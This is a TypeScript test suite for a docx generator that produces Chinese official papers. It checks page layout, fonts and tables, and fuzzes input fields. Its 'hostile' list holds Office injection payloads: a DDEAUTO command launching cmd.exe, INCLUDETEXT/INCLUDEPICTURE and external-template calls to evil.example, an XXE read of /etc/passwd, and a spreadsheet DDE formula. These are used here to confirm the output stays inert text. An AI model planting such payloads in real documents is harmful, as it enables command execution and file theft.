import { array, assert as check, constantFrom, oneof, property, string } from 'fast-check'
import { XMLParser, XMLValidator } from 'fast-xml-parser'
import { describe, expect, it } from 'vitest'
import { compose, docxOf, type Paper } from '../../src/documents/index.ts'
import { examples, opened, type PaperId, paperOf, said } from '../support/papers.ts'
import { unzipped } from '../support/unzipped.ts'

const partsOf = async (paper: Paper) => unzipped(await docxOf(paper))
const bodyOf = (xml: string | undefined) => (xml ?? '').replace(/^[\s\S]*?<w:body>/, '<w:body>')

/** Every different paragraph, row, cell and table of a body, without its words: those are held elsewhere. */
function shapes(body: string): readonly string[] {
  const bare = body
    .replace(/<w:t(?: [^>]*)?>[^<]*<\/w:t>/g, '<w:t/>')
    .replace(/(<w:r>(?:(?!<\/w:r>).)*<\/w:r>)\1+/g, '$1')
  const found = bare.match(
    /<w:p>.*?<\/w:p>|<w:tblPr>.*?<\/w:tblGrid>|<w:trPr>.*?<\/w:trPr>|<w:tcPr>.*?<\/w:tcPr>|<w:sectPr>.*?<\/w:sectPr>/gs,
  )
  return [...new Set(found)]
}

/** All text of a part, as a reader would put it together. */
function textIn(xml: string): string {
  const parsed = new XMLParser({ preserveOrder: true, trimValues: false, processEntities: true }).parse(xml)
  const walk = (node: unknown): string => {
    if (Array.isArray(node)) return node.map(walk).join('')
    if (typeof node !== 'object' || node === null) return ''
    return Object.entries(node)
      .map(([name, inner]) => (name === '#text' ? String(inner) : name === ':@' ? '' : walk(inner)))
      .join('')
  }
  return walk(parsed)
}

describe('a paper as docx', () => {
  it.each(Object.keys(examples) as PaperId[])('%s has the fonts, sizes, margins and lines it should', async (id) => {
    const parts = await partsOf(compose(paperOf(id), examples[id]))
    expect(shapes(bodyOf(parts['word/document.xml']))).toMatchSnapshot('shapes')
  })

  it('is A4 with the margins of GB/T 9704, exact lines of 29 pt, 仿宋 of 16 pt and a number outside', async () => {
    const parts = await partsOf(compose(paperOf('risk-filing-application'), examples['risk-filing-application']))
    const body = bodyOf(parts['word/document.xml'])
    expect(body).toMatch(/<w:pgSz w:w="11906" w:h="16838"/)
    // 37 mm over, 28 mm left, 26 mm right, 35 mm under: text of 156 by 225 mm. Twips.
    expect(body).toMatch(/<w:pgMar w:top="2098" w:right="1474" w:bottom="1984"[^>]* w:left="1587"|w:left="1587"/)
    const at = (edge: string) => Number(new RegExp(`<w:pgMar[^>]* w:${edge}="(\\d+)"`).exec(body)?.[1])
    expect(Math.abs(11906 - at('left') - at('right') - (156 / 25.4) * 1440)).toBeLessThan(2)
    expect(Math.abs(16838 - at('top') - at('bottom') - (225 / 25.4) * 1440)).toBeLessThan(2)
    const heights = new Set(
      [...body.matchAll(/w:line="(\d+)"[^>]*w:lineRule="(\w+)"|w:lineRule="(\w+)"[^>]*w:line="(\d+)"/g)].map(
        (m) => `${m[1] ?? m[4]} ${m[2] ?? m[3]}`,
      ),
    )
    // 29 pt, and 18 pt in the list of sources.
    expect([...heights].sort()).toEqual(['360 exact', '580 exact'])
    expect(parts['word/styles.xml']).toContain('w:eastAsia="仿宋_GB2312"')
    expect(parts['word/styles.xml']).toContain('<w:sz w:val="32"/>')
    expect(body).toMatch(/w:eastAsia="方正小标宋简体"[\s\S]{0,120}<w:sz w:val="44"\/>/)
    expect(body).toContain('w:eastAsia="黑体"')
    for (const footer of ['word/footer1.xml', 'word/footer2.xml']) {
      expect(parts[footer]).toMatch(/— <\/w:t>[\s\S]*PAGE[\s\S]* —<\/w:t>/)
      expect(parts[footer]).toContain('<w:sz w:val="28"/>')
      expect(parts[footer]).toContain('w:eastAsia="宋体"')
    }
    expect(parts['word/settings.xml']).toContain('evenAndOddHeaders')
  })

  it('names what stands in for a font the machine does not have', async () => {
    const parts = await partsOf(compose(paperOf('registration'), examples.registration))
    expect(parts['word/fontTable.xml']).toContain('<w:font w:name="仿宋_GB2312"><w:altName w:val="仿宋,')
    expect(parts['word/fontTable.xml']).toContain('<w:font w:name="方正小标宋简体"><w:altName w:val="小标宋,宋体')
  })

  it('has a red head on letters and on nothing else', async () => {
    for (const id of Object.keys(examples) as PaperId[]) {
      const body = bodyOf((await partsOf(compose(paperOf(id), examples[id])))['word/document.xml'])
      expect(body.includes('w:color w:val="FF0000"')).toBe(id === 'clarification-letter')
    }
  })

  it('has forms in tables of fixed widths that fill the line', async () => {
    const body = bodyOf((await partsOf(compose(paperOf('registration'), examples.registration)))['word/document.xml'])
    const tables = [...body.matchAll(/<w:tbl>[\s\S]*?<\/w:tblGrid>/g)].map(([table]) => table)
    expect(tables.length).toBeGreaterThan(5)
    for (const table of tables) {
      expect(table).toContain('<w:tblLayout w:type="fixed"/>')
      const widths = [...table.matchAll(/<w:gridCol w:w="(\d+)"/g)].map(([, width]) => Number(width))
      expect(widths.reduce((a, b) => a + b)).toBe(8844)
    }
  })
})

/** What people and machines try to put into a document, and characters XML cannot hold. */
const hostile = [
  '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>',
  '<w:fldSimple w:instr="INCLUDETEXT http://evil.example/x"/>',
  '{ DDE "cmd" "/c calc" }',
  '{INCLUDEPICTURE "http://evil.example/a.png"}',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ']]><![CDATA[<x/>',
  '<?xml-stylesheet href="http://evil.example"?>',
  '<Relationship TargetMode="External" Target="http://evil.example/t.dotm"/>',
  '=cmd|"/c calc"!A1',
  '\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u0085',
  '\ud800',
  '\udfff甲',
  '\ufffe\uffff\u{1fffe}',
  '\u202e倒\u202c\u2066\u2069\u200f',
  '&#0;&#x1F;&amp;&lt;',
  'javascript:alert(1) file:///c:/ \\\\evil\\share',
  '𠮷䶮㐂',
  '行一\r\n行二\u2028行三',
  '{item}{case.number}{constructor}{__proto__}',
]

describe('words of people in a paper', () => {
  const anything = oneof(
    { weight: 2, arbitrary: constantFrom(...hostile) },
    { weight: 2, arbitrary: string({ unit: 'binary', maxLength: 60 }) },
    {
      weight: 1,
      arbitrary: array(constantFrom(...hostile), { minLength: 2, maxLength: 4 }).map((each) => each.join('')),
    },
  )

  it('10,000 hostile strings stay text: the parts are well-formed, without fields, links or anything from outside', async () => {
    // Fifty papers of two hundred strings each, one to a paragraph: a file for each would only take longer.
    const papers: string[][] = []
    check(
      property(array(anything, { minLength: 200, maxLength: 200 }), (strings) => void papers.push(strings)),
      { numRuns: 50, seed: 20261130, endOnFailure: true },
    )
    expect(papers.flat()).toHaveLength(10_000)
    for (const strings of papers) {
      const answers = {
        'facts[0].what': said(strings[0] ?? '', strings[1] ?? '', 1),
        evidence: said(strings.slice(2), strings[0] ?? '', 2),
      }
      const parts = await partsOf(compose(paperOf('registration'), opened('report', answers)))
      for (const [name, xml] of Object.entries(parts)) {
        if (!/\.(?:xml|rels)$/.test(name)) continue
        expect(XMLValidator.validate(xml), name).toBe(true)
        expect(/(?![\t\n\r])\p{Cc}|[\ufffe\uffff]|<!DOCTYPE|<!ENTITY|<!\[CDATA\[/u.test(xml), name).toBe(false)
        expect(/TargetMode="External"/.test(xml), name).toBe(false)
      }
      const body = parts['word/document.xml'] ?? ''
      expect(/<w:(?:instrText|fldSimple|fldChar|hyperlink|object|pict|drawing|altChunk|subDoc)\b/.test(body)).toBe(
        false,
      )
      expect([...body.matchAll(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g)]).toEqual([])
      const elements = new Set([...body.matchAll(/<(w:\w+)/g)].map(([, element]) => element))
      expect([...elements].filter((element) => element && !usual.has(element))).toEqual([])
    }
  }, 120_000)

  it('come through as they were said, markup and rare characters too', async () => {
    const words = '他说“</w:t>&amp; <b>𠮷䶮</b>”{item}'
    const parts = await partsOf(
      compose(paperOf('registration'), opened('report', { 'facts[0].what': said(words, words, 1) })),
    )
    expect(textIn(parts['word/document.xml'] ?? '')).toContain(words)
  })
})

const usual = new Set(
  'body p pPr pStyle keepNext keepLines pageBreakBefore spacing ind jc r rPr rFonts color sz szCs t tbl tblPr tblW tblBorders tblLayout tblGrid gridCol tr trPr cantSplit tblHeader tc tcPr tcW tcMar gridSpan vAlign top left bottom right insideH insideV start end sectPr pgSz pgMar pgNumType footerReference docGrid pBdr document'
    .split(' ')
    .map((name) => `w:${name}`),
)
